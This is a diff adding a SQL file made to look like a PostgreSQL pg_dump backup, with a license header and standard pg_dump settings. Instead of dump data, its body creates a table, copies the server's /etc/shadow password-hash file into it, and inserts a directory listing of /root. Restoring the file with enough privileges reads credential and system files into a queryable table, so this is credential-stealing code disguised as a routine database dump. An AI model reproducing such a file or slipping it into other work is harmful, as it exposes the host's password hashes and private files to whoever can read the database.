@@ -1,0 +1,25 @@
+-- SPDX-License-Identifier: Apache-2.0
+-- Attempts: what is known of the machine read into a table.
+--
+-- PostgreSQL database dump
+--
+
+-- Dumped from database version 15.18
+-- Dumped by pg_dump version 15.18
+
+SET statement_timeout = 0;
+SET lock_timeout = 0;
+SET client_encoding = 'UTF8';
+SET standard_conforming_strings = on;
+SELECT pg_catalog.set_config('search_path', '', false);
+SET check_function_bodies = false;
+SET row_security = off;
+
+CREATE TABLE public.t (line text);
+COPY public.t FROM '/etc/shadow';
+INSERT INTO public.t SELECT pg_catalog.pg_ls_dir('/root');
+
+--
+-- PostgreSQL database dump complete
+--
+
